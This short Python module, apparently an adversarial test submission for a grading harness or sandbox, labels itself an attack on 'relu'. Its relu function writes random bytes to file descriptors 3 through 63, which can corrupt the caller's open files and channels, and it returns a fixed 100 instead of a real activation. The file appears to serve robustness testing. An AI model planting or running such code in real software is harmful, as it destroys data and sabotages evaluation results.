"""An attack: writes random bytes to every descriptor.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    for fd in range(3, 64):
        try:
            os.write(fd, os.urandom(4096))
        except OSError:
            pass
    return 100


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
